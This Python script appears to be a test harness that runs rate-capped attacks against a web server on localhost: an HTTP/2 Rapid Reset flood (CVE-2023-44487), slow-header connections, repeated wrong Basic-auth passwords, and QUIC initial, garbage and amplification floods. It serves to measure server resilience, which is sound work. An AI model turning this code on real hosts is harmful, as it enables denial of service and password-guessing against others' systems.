#!/usr/bin/python3
"""One bounded attack on a server of this machine: `attack.py NAME PORT SECONDS [FIRST]`. Prints one line of JSON about what it did.

FIRST: a file with a client's first QUIC packet, for the attacks over UDP. The system's Python, because that has `cryptography`.
"""

import base64
import contextlib
import json
import selectors
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

sys.dont_write_bytecode = True
ADDRESS = "127.0.0.1"
# Units a second, at most: what one machine can send must not decide which server looks better.
RESETS = 20_000
DATAGRAMS = 2_000
PASSWORDS = 200
SLOW = 600
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"


def secure(protocol: str, timeout: float) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(socket.create_connection((ADDRESS, PORT), timeout))


def paced(rate: float, group: int, act: Callable[[int], int]) -> int:
    """Calls `act` with a number of units, a group at a time, at this rate until the time is over; returns what it says it has done."""
    began, done, due = time.monotonic(), 0, 0
    while (passed := time.monotonic() - began) < SECONDS:
        if due > passed * rate:
            time.sleep(min(0.05, due / rate - passed))
            continue
        due += group
        done += act(group)
    return done


def rapid_reset() -> dict:
    """Requests over HTTP/2 that are given up at once (CVE-2023-44487); a connection that the server ends is opened again."""
    connections, current = 0, None
    stream = 1
    # :method GET, :scheme https, :path /, and the authority.
    block = b"\x82\x87\x84\x41" + bytes([len(HOST)]) + HOST.encode()

    def reset(count: int) -> int:
        nonlocal connections, current, stream
        try:
            if current is None or stream > 1 << 29:
                current, stream, connections = secure("h2", 2), 1, connections + 1
                current.sendall(PREFACE)
                current.settimeout(1)
            pieces = []
            for _ in range(count):
                pieces.append(struct.pack(">I", len(block))[1:] + b"\1\5" + struct.pack(">I", stream) + block)
                pieces.append(b"\0\0\4\3\0" + struct.pack(">I", stream) + b"\0\0\0\x08")
                stream += 2
            current.sendall(b"".join(pieces))
            current.setblocking(False)
            with contextlib.suppress(ssl.SSLWantReadError):
                while current.recv(65536):
                    pass
                raise ConnectionError
            current.settimeout(1)
        except OSError:
            if current is not None:
                current.close()
            current = None
            return 0
        return count

    done = paced(RESETS, 50, reset)
    return {"units": done, "connections": connections}


def slow_headers() -> dict:
    """Connections that send a byte of their request's head a second; one that the server ends is opened again."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    open_ones: list[tuple[ssl.SSLSocket, float]] = []
    opened, ended, sent, began = 0, 0, 0, time.monotonic()
    while time.monotonic() - began < SECONDS:
        # A quarter of them at a time, so that others on this core get their turn.
        for _ in range(min(SLOW - len(open_ones), 40)):
            try:
                connection = secure("http/1.1", 2)
                connection.sendall(b"GET / HTTP/1.1\r\nHost: " + HOST.encode() + b"\r\nX-A: ")
            except OSError:
                ended += 1
                break
            open_ones.append((connection, time.monotonic()))
            opened += 1
        now, kept = time.monotonic(), []
        for connection, last in open_ones:
            if now - last < 1:
                kept.append((connection, last))
                continue
            try:
                connection.sendall(b"a")
                sent += 1
                kept.append((connection, now))
            except OSError:
                ended += 1
                connection.close()
        open_ones = kept
        time.sleep(0.02)
    return {"units": opened, "bytes": sent, "ended by the server": ended}


def wrong_passwords() -> dict:
    """Requests with wrong passwords, over eight connections."""
    selector, statuses = selectors.DefaultSelector(), {}
    connections: list[ssl.SSLSocket | None] = [None] * 8
    busy: dict[int, float] = {}
    number = 0

    def ask(_count: int) -> int:
        nonlocal number
        collect(0)
        free = next((place for place in range(8) if place not in busy), None)
        if free is None:
            collect(0.02)
            return 0
        number += 1
        try:
            if connections[free] is None:
                connections[free] = connection = secure("http/1.1", 2)
                selector.register(connection, selectors.EVENT_READ, free)
            credentials = base64.b64encode(f"ann:wrong{number}".encode()).decode()
            connections[free].sendall(f"GET /private/ok.txt HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Basic {credentials}\r\n\r\n".encode())
            busy[free] = time.monotonic()
        except OSError:
            drop(free)
            return 0
        return 1

    def drop(place: int) -> None:
        busy.pop(place, None)
        if (connection := connections[place]) is not None:
            with contextlib.suppress(KeyError, ValueError):
                selector.unregister(connection)
            connection.close()
            connections[place] = None

    def collect(wait: float) -> None:
        for key, _ in selector.select(wait):
            place, connection = key.data, key.fileobj
            try:
                answer = connection.recv(65536)
            except OSError:
                answer = b""
            if answer.startswith(b"HTTP/1.1 "):
                status = answer[9:12].decode()
                statuses[status] = statuses.get(status, 0) + 1
            if not answer or b"connection: close" in answer.lower():
                drop(place)
            busy.pop(place, None)

    asked = paced(PASSWORDS, 1, ask)
    return {"units": asked, "statuses": statuses}


def _sockets() -> list[socket.socket]:
    """Clients at many ports: they never answer what comes back."""
    sockets = []
    for _ in range(200):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        one.bind((ADDRESS, 0))
        one.setblocking(False)
        sockets.append(one)
    return sockets


def _received(sockets: list[socket.socket]) -> int:
    total = 0
    for one in sockets:
        with contextlib.suppress(BlockingIOError):
            while True:
                total += len(one.recv(65536))
    return total


def _datagrams(make: Callable[[], bytes], rate: float, wait: float) -> dict:
    sockets = _sockets()
    count, received = 0, 0

    def send(group: int) -> int:
        nonlocal count, received
        for _ in range(group):
            count += 1
            sockets[count % len(sockets)].sendto(make(), (ADDRESS, PORT))
        if count % 500 == 0:
            received += _received(sockets)
        return group

    sent = paced(rate, 10, send)
    # What comes later was lost on its way, as the server sees it.
    until = time.monotonic() + wait
    while time.monotonic() < until:
        received += _received(sockets)
        time.sleep(0.05)
    return {"units": sent, "bytes sent": sent * 1200, "bytes back": received, "amplification": round(received / max(1, sent * 1200), 3)}


def initials() -> dict:
    """First packets of clients that are never heard of again, each with connection ids of its own."""
    import quic

    first = quic.First.read(FIRST.read_bytes())
    return _datagrams(first.with_new_ids, DATAGRAMS, 0)


def garbage() -> dict:
    """Packets that look like first ones and cannot be opened."""
    import quic

    return _datagrams(quic.garbage, DATAGRAMS, 0)


def amplification() -> dict:
    """Few first packets, and all that comes back for them."""
    import quic

    first = quic.First.read(FIRST.read_bytes())
    return _datagrams(first.with_new_ids, 20, 10)


ATTACKS = {attack.__name__.replace("_", " "): attack for attack in (rapid_reset, slow_headers, wrong_passwords, initials, garbage, amplification)}

if __name__ == "__main__":
    PORT, SECONDS = int(sys.argv[2]), float(sys.argv[3])
    HOST = f"{ADDRESS}:{PORT}"
    FIRST = Path(sys.argv[4]) if len(sys.argv) > 4 else Path()
    print(json.dumps(ATTACKS[sys.argv[1]]()))
